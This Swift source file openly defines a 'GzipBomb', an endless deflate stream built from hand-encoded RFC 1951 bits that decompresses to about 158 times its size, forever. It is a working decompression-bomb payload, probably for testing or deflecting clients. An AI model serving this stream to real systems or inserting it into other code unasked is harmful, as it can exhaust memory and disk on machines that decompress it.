/// A gzip stream without an end that grows to 158 times its size: a zero, then "the same again, 258 times" forever.
///
/// RFC 1951 section 3.2.6: 3 bits begin a block with fixed codes, 8 mean the literal 0, and 13 mean length 258,
/// distance 1. Eight of the latter are 13 bytes, the period of `more`.
enum GzipBomb {
    static let start: [UInt8] = [0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 3] + bytes[..<13]
    /// Goes on from `start` and from itself.
    static let more = Array(bytes[13..<(13 * 99)])

    private static let bytes: [UInt8] = {
        let bits = Array(("01000110000" + String(repeating: "1100010100000", count: 8 * 100)).utf8)
        return stride(from: 0, to: bits.count - 7, by: 8).map { start in
            (0..<8).reduce(0) { $0 | (bits[start + $1] - UInt8(ascii: "0")) << UInt8($1) }
        }
    }()
}
